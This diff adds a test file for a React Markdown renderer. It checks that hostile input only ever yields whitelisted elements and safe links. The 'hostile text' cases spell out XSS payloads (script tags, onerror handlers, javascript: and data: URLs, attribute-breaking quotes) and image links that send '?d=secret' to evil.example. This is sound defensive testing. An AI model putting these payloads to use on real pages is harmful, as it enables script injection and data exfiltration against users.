@@ -1,0 +1,67 @@
+import { renderToStaticMarkup } from 'react-dom/server'
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import Markdown from './Markdown.tsx'
+
+const texts = { copy: 'Copy', copied: 'Copied', image: 'image' }
+const html = (text: string, streaming = false): string => renderToStaticMarkup(<Markdown text={text} streaming={streaming} texts={texts} />)
+/** every element and attribute the renderer may make */
+const elements = /^(div|p|strong|em|del|code|pre|figure|figcaption|span|button|svg|path|blockquote|ol|ul|li|table|thead|tbody|tr|th|td|hr|br|a|sup)$/
+const attributes = /^(class|href|target|rel|title|start|type|aria-[a-z]+|role|tabindex|data-task|style|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|focusable|d)$/
+
+function check(text: string): void {
+  const out = html(text)
+  for (const [, tag, rest] of out.matchAll(/<\/?([a-z]+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
+    expect(tag, text).toMatch(elements)
+    for (const [, name, value] of (rest ?? '').matchAll(/([\w-]+)(?:="([^"]*)")?/g)) {
+      expect(name, text).toMatch(attributes)
+      if (name === 'href') expect(value, text).toMatch(/^https?:\/\//)
+      if (name === 'style') expect(value, text).toMatch(/^text-align:(left|right|center)$/)
+    }
+  }
+}
+
+describe('hostile text', () => {
+  it.each([
+    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe srcdoc="<script>1</script>">', '<style>*{}</style>',
+    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](&#106;avascript:alert(1))', '[x](java\nscript:1)', '[x](data:text/html,1)', '[x](vbscript:1)',
+    '![x](https://evil.example/?d=secret)', '![x](javascript:1)', '![][r]\n\n[r]: https://evil.example/p.png', '<https://evil.example/>', '<javascript:alert(1)>',
+    '[x][r]\n\n[r]: javascript:alert(1)', '[<img src=x onerror=1>](https://a.example)', '`<b>`', '```html\n<script>1</script>\n```', '# <b onclick=1>h</b>',
+    '| <script> |\n|--|\n| <img src=x onerror=1> |', '[a](https://a.example "\\" onmouseover=\\"1")', '[^1]\n\n[^1]: <script>1</script>', '- [ ] <input autofocus onfocus=1>',
+    '![x](https://evil.example/"onerror="1)', '<a href="javascript:1">x</a>', 'www.evil.example/<script>', '</div></div><script>1</script>',
+  ])('makes only harmless elements of %j', check)
+
+  it('never makes an element that loads something', () => {
+    fc.assert(fc.property(fc.array(fc.constantFrom('<img src=x>', '![', '](', 'https://e.example/p.png', ')', '[', ']', '<', '>', '"', 'javascript:', '`', '\n', '\n\n', '| ', '- ', '# ', '*', '~~', '&lt;', '\\', 'a', '中')), (parts) => check(parts.join(''))), { numRuns: 400 })
+  })
+  it('survives deep nesting', () => {
+    check('>'.repeat(5000) + ' deep')
+    check('> '.repeat(39) + 'deep')
+    check('- '.repeat(2000) + 'deep')
+    check('*'.repeat(400) + 'x' + '*'.repeat(400))
+    check('['.repeat(1000))
+  })
+})
+
+describe('plain use', () => {
+  it('links say where they lead and open elsewhere', () => {
+    expect(html('[home](https://example.org/a)')).toContain('<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow" title="https://example.org/a">home</a>')
+  })
+  it('shows refused addresses as text', () => {
+    expect(html('[x](javascript:alert(1))')).toMatch(/x<span[^>]*> \(javascript:alert\(1\)\)<\/span>/)
+  })
+  it('images become links', () => {
+    expect(html('![a cat](https://example.org/cat.png)')).toMatch(/<a [^>]*>image: a cat<\/a>/)
+  })
+  it('bold next to Chinese punctuation', () => {
+    expect(html('他说**“你好”**，走了')).toContain('<strong>“你好”</strong>')
+  })
+  it('numbered lists keep their start, tasks their state', () => {
+    expect(html('3. a\n4. b')).toContain('<ol start="3">')
+    expect(html('- [x] done')).toContain('☑')
+  })
+  it('renders the same when streamed as at once', () => {
+    const text = '# A\n\npara **b**\n\n- x\n- y\n\n```js\n1\n```\n\nend'
+    expect(html(text, true)).toBe(html(text, false))
+  })
+})
